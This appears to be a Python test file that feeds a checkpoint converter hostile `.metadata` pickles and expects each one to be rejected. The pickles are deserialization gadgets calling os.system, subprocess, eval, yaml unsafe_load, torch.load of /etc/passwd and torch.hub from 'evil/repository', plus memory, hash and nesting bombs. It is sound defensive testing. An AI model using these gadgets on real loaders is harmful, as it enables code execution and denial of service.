"""`.metadata`: gadgets, bombs and broken streams. Nothing of it may run, hang, or eat memory."""

# ruff: noqa: E501 (a case is one line)

from __future__ import annotations

import struct
from collections.abc import Callable
from typing import Any

from attacks.bench import Bench
from attacks.case import attack
from attacks.checkpoint import DCP, Draft, draft
from attacks.opcodes import Built, Call, Name, New, Pairs, Raw, dumps, encode, text

SONG = "import os; open(os.environ['ATTACK_CANARY'], 'a').write('sang')"
SHELL = "echo sang >> $ATTACK_CANARY"
EVIL: dict[str, Any] = {
    "os_system": Call(Name("os", "system"), (SHELL,)),
    "posix_system": Call(Name("posix", "system"), (SHELL,)),
    "exec": Call(Name("builtins", "exec"), (SONG,)),
    "eval": Call(Name("builtins", "eval"), (f"exec({SONG!r})",)),
    "python2_eval": Call(Name("__builtin__", "eval"), (f"exec({SONG!r})",)),
    "getattr": Call(Call(Name("builtins", "getattr"), (Name("os", "system"), "__call__")), (SHELL,)),
    "dotted_name": Call(Name("torch", "serialization.os.system"), (SHELL,)),
    "dotted_name_of_an_allowed_class": Call(Name(f"{DCP}.metadata", "Metadata.__init__.__globals__"), ()),
    "import_module": Call(Name("importlib", "import_module"), ("antigravity",)),
    "bait_module": Name("attack_bait", "Thing"),
    "dunder_import": Call(Name("builtins", "__import__"), ("attack_bait",)),
    "subprocess": Call(Name("subprocess", "check_output"), (["sh", "-c", SHELL],)),
    "popen": New(Name("subprocess", "Popen"), {}),
    "runpy": Call(Name("runpy", "_run_code"), (SONG, {})),
    "code_object": Call(Name("types", "FunctionType"), (Call(Name("marshal", "loads"), (b"c",)), {})),
    "torch_load": Call(Name("torch", "load"), ("/etc/passwd",)),
    "torch_hub": Call(Name("torch.hub", "load"), ("evil/repository", "model")),
    "numpy_runstring": Call(Name("numpy.testing._private.utils", "runstring"), (SONG, {})),
    "numpy_load": Call(Name("numpy", "load"), ("x.npy", None, True)),
    "partial": Call(Name("functools", "partial"), (Name("os", "system"), SHELL)),
    "reduce": Call(Name("functools", "reduce"), (Name("os", "system"), [SHELL])),
    "map": Call(Name("builtins", "map"), (Name("os", "system"), [SHELL])),
    "attrgetter": Call(Call(Name("operator", "attrgetter"), ("system",)), (Name("os", "path"),)),
    "open_for_writing": Call(Name("builtins", "open"), ("owned.txt", "w")),
    "socket": Call(Name("socket", "create_connection"), (("127.0.0.1", 9),)),
    "urlopen": Call(Name("urllib.request", "urlopen"), ("http://127.0.0.1:9/",)),
    "debugger": Call(Name("bdb", "Bdb"), ()),
    "pdb_run": Call(Name("pdb", "run"), (SONG,)),
    "timeit": Call(Name("timeit", "timeit"), ("0", SONG)),
    "code_of_the_tool": Call(Name("transcoder.cli", "main"), ()),
    "yaml_load": Call(Name("yaml", "unsafe_load"), (f"!!python/object/apply:os.system ['{SHELL}']",)),
    "pickle_in_a_pickle": Call(Name("pickle", "loads"), (dumps(Call(Name("os", "system"), (SHELL,))),)),
    "pathlib_write": Call(Name("pathlib", "PosixPath.write_text"), ("owned.txt", "x")),
    "namespace_that_is_no_metadata": New(Name("argparse", "Namespace"), {"a": 1}),
    "empty_module": Call(Name("", "system"), (SHELL,)),
    "prefix_of_an_allowed_module": Call(Name(f"{DCP}.metadata.evil", "Metadata"), ()),
    "prefix_of_an_allowed_name": Call(Name(f"{DCP}.metadata", "MetadataX"), ()),
    "unicode_name": Call(Name("ｏｓ", "system"), (SHELL,)),
}


def write(bench: Bench, data: bytes) -> None:
    """Replace `.metadata`."""
    (bench.folder / ".metadata").write_bytes(data)


def good() -> Draft:
    """A draft whose places are known."""
    plan = draft()
    plan.lay()
    return plan


def reject(needle: str = "metadata", commands: str = "mcore2hf check") -> Any:
    """A plan that must be refused."""
    return attack("reject", "mcore", commands, needle)


def _enter() -> None:
    for word, gadget in EVIL.items():

        def root(bench: Bench, gadget: Any = gadget) -> None:
            write(bench, dumps(gadget))

        def field(bench: Bench, gadget: Any = gadget) -> None:
            plan = good()
            plan.attributes["planner_data"] = gadget
            write(bench, plan.pickle())

        for build in (root, field):
            build.__doc__ = f"`{word}` as the {'whole' if build is root else 'planner_data'} of the plan."
            build.__name__ = f"{word}_as_{build.__name__}"
            attack("reject", "mcore", "inspect" if build is root else "mcore2hf", "metadata")(build)


_enter()


def stream(name: str, said: str, make: Callable[[], bytes]) -> None:
    """A case of a whole stream."""

    def build(bench: Bench) -> None:
        write(bench, make())

    build.__name__, build.__doc__ = name, said
    reject()(build)


def deep_tuples() -> bytes:
    """A tuple of 2**40 leaves by sharing: hashing it never ends."""
    code = b"\x80\x02)q\x00"
    for number in range(40):
        code += b"h" + bytes((number,)) + b"h" + bytes((number,)) + b"\x86q" + bytes((number + 1,))
    return code + b"}h\x28K\x01s."


def doubled_list() -> bytes:
    """A list of 2**40 leaves by sharing: printing or comparing it never ends."""
    code = b"\x80\x02]q\x00"
    for number in range(40):
        code += b"](h" + bytes((number,)) + b"h" + bytes((number,)) + b"eq" + bytes((number + 1,))
    return code + b"."


def cyclic() -> bytes:
    """A list that holds itself."""
    return b"\x80\x02]q\x00h\x00a."


MANY = struct.pack("<I", 2**31 - 1)
STREAMS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("No byte.", lambda: b""),
    "stop_only": ("STOP with nothing on the stack.", lambda: b"\x80\x02."),
    "no_stop": ("A stream cut short.", lambda: good().pickle()[:-1]),
    "half": ("Half of a good plan.", lambda: good().pickle()[:900]),
    "protocol_6": ("A protocol that does not exist.", lambda: b"\x80\x06" + good().pickle()[2:]),
    "protocol_255": ("A protocol of 255.", lambda: b"\x80\xff" + good().pickle()[2:]),
    "protocol_0_text": ("A global and a call in the old text form.", lambda: f"cos\nsystem\n(S'{SHELL}'\ntR.".encode()),
    "inst": ("INST, the oldest call.", lambda: f"(S'{SHELL}'\nios\nsystem\n.".encode()),
    "obj": ("OBJ, the next oldest.", lambda: b"\x80\x02(cos\nsystem\n" + text(SHELL) + b"o."),
    "newobj_ex": ("NEWOBJ_EX with keywords.", lambda: b"\x80\x04cos\nsystem\n(" + text(SHELL) + b"t}\x92."),
    "extension": ("EXT1, a registered global.", lambda: b"\x80\x02\x82\x01."),
    "extension_4": ("EXT4.", lambda: b"\x80\x02\x84" + MANY + b"."),
    "persistent_text": ("PERSID, whose argument is a line.", lambda: b"\x80\x02Pstorage\n."),
    "persistent": ("A storage in a plan.", lambda: b"\x80\x02" + encode(("storage", "x")) + b"Q."),
    "string_length_lie": ("A text of 2 GiB in a file of 20 bytes.", lambda: b"\x80\x02X" + MANY + b"abc."),
    "string_length_lie_8": ("A text of 2**62 bytes.", lambda: b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"abc."),
    "bytes_length_lie": ("Bytes of 2**62.", lambda: b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"abc."),
    "bytearray_length_lie": ("A bytearray of 2**62, allocated before it is read.", lambda: b"\x80\x05\x96" + struct.pack("<Q", 2**62) + b"abc."),
    "frame_length_lie": ("A frame of 2**62 bytes.", lambda: b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N."),
    "integer_length_lie": ("An integer of 2 GiB.", lambda: b"\x80\x02\x8b" + MANY + b"1."),
    "integer_length_negative": ("An integer of minus one byte.", lambda: b"\x80\x02\x8b\xff\xff\xff\xff."),
    "integer_of_a_megabyte": ("An integer of a megabyte, slow to print.", lambda: b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b"."),
    "integer_as_text": ("An integer of a hundred thousand digits, as a line.", lambda: b"\x80\x02I" + b"9" * 100_000 + b"\n."),
    "memo_bomb": ("A memo index of 2**31: an array of 16 GiB.", lambda: b"\x80\x02Nr" + MANY + b"."),
    "memo_text": ("PUT with a number as a line.", lambda: b"\x80\x02Np99999999999\n."),
    "memo_unknown": ("A memo entry that nothing stored.", lambda: b"\x80\x02h\x07."),
    "mark_missing": ("A tuple without its mark.", lambda: b"\x80\x02Nt."),
    "stack_underflow": ("A tuple of two from a stack of one.", lambda: b"\x80\x02N\x86."),
    "dup_and_pop": ("POP on an empty stack.", lambda: b"\x80\x020."),
    "odd_dictionary": ("SETITEMS with a key and no value.", lambda: b"\x80\x02}(Nu."),
    "setitem_on_a_name": ("SETITEM on a global: assigns into a module's table.", lambda: b"\x80\x02cos\nenviron\nX\x01\x00\x00\x00aX\x01\x00\x00\x00bs."),
    "append_to_a_name": ("APPEND to sys.path.", lambda: b"\x80\x02csys\npath\nX\x01\x00\x00\x00aa."),
    "build_on_a_name": ("BUILD on a class: sets its attributes.", lambda: dumps(Built(Name(f"{DCP}.metadata", "Metadata"), {"__init__": 1}))),
    "build_on_a_dtype": ("BUILD on a dtype.", lambda: dumps(Built(Name("torch", "bfloat16"), {"a": 1}))),
    "build_with_dunders": ("A state that names __class__ and __dict__.", lambda: dumps(New(Name(f"{DCP}.metadata", "Metadata"), {"__class__": Name("os", "system"), "__dict__": {}, "state_dict_metadata": {}}))),
    "build_with_a_list": ("A state that is no dictionary.", lambda: dumps(New(Name(f"{DCP}.metadata", "Metadata"), [1, 2]))),
    "nesting": ("A hundred thousand lists in each other.", lambda: b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."),
    "nested_tuples": ("A hundred thousand tuples in each other.", lambda: b"\x80\x02)" + b"\x85" * 100_000 + b"."),
    "nested_tuple_as_key": ("The same as a key, to be hashed.", lambda: b"\x80\x02})" + b"\x85" * 100_000 + b"Ns."),
    "nested_reduce": ("Ten thousand calls in each other.", lambda: b"\x80\x02" + b"ctorch\nSize\n" * 10_000 + b")" + b"R\x85" * 9_999 + b"R."),
    "marks": ("A million marks.", lambda: b"\x80\x02" + b"(" * 1_000_000 + b"."),
    "hash_bomb": (deep_tuples.__doc__ or "", deep_tuples),
    "print_bomb": (doubled_list.__doc__ or "", doubled_list),
    "cycle": (cyclic.__doc__ or "", cyclic),
    "unhashable_key": ("A dictionary whose key is a list.", lambda: b"\x80\x02}]Ns."),
    "set_of_lists": ("ADDITEMS of what cannot be hashed.", lambda: b"\x80\x04\x8f(]]\x90."),
    "frozenset": ("A frozen set.", lambda: b"\x80\x04(N\x91."),
    "out_of_band_buffer": ("A buffer that is not there.", lambda: b"\x80\x05\x97."),
    "stack_global_of_numbers": ("STACK_GLOBAL of two integers.", lambda: b"\x80\x04K\x01K\x02\x93."),
    "stack_global_of_long_text": ("A global of a megabyte.", lambda: b"\x80\x04" + text("a" * 70_000) + text("b") + b"\x93."),
    "global_without_end": ("A global whose line never ends.", lambda: b"\x80\x02c" + b"o" * 1_000_000),
    "unknown_opcode": ("A byte that is no opcode.", lambda: b"\x80\x02\xfe."),
    "not_utf8": ("A text that is not UTF-8.", lambda: b"\x80\x02X\x02\x00\x00\x00\xff\xfe."),
    "half_a_float": ("A float cut short.", lambda: b"\x80\x02G\x00\x00"),
    "two_protocols": ("PROTO in the middle.", lambda: b"\x80\x02\x80\xff" + good().pickle()[2:]),
    "root_is_a_dictionary": ("A dictionary where Metadata is wanted.", lambda: dumps({"state_dict_metadata": {}, "storage_data": {}})),
    "root_is_none": ("None.", lambda: dumps(None)),
    "root_without_fields": ("Metadata without its fields.", lambda: dumps(New(Name(f"{DCP}.metadata", "Metadata"), {}))),
    "root_of_lists": ("Fields of the wrong kinds.", lambda: dumps(New(Name(f"{DCP}.metadata", "Metadata"), {"state_dict_metadata": [], "storage_data": []}))),
    "root_called_with_junk": ("Metadata called with 1000 arguments.", lambda: dumps(Call(Name(f"{DCP}.metadata", "Metadata"), tuple(range(1000))))),
    "duplicate_field": ("A state with two `storage_data`: readers differ.", lambda: dumps(New(Name(f"{DCP}.metadata", "Metadata"), Pairs((("state_dict_metadata", {}), ("storage_data", {}), ("storage_data", {"a": 1})))))),
    "all_zero": ("A file of zeros, as after a crash.", lambda: bytes(10_000)),
    "text_file": ("A text.", lambda: b"this is not a pickle\n"),
    "zip_file": ("A zip.", lambda: b"PK\5\6" + bytes(18)),
    "raw_call_of_none": ("None, called.", lambda: b"\x80\x02N)R."),
    "raw_newobj_of_text": ("A text, instantiated.", lambda: dumps(Raw(text("os.system") + b")\x81"))),
}  # fmt: skip
for _name, (_said, _make) in STREAMS.items():
    stream(_name, _said, _make)


@reject()
def sparse_of_a_terabyte(bench: Bench) -> None:
    """A plan of 1 TB, all zeros, which costs no disk."""
    with (bench.folder / ".metadata").open("r+b") as file:
        file.truncate(10**12)


@attack("warn", "mcore", "mcore2hf check inspect", "metadata")
def bytes_after_stop(bench: Bench) -> None:
    """Bytes behind the end of a good plan."""
    write(bench, good().pickle() + b"cos\nsystem\n")
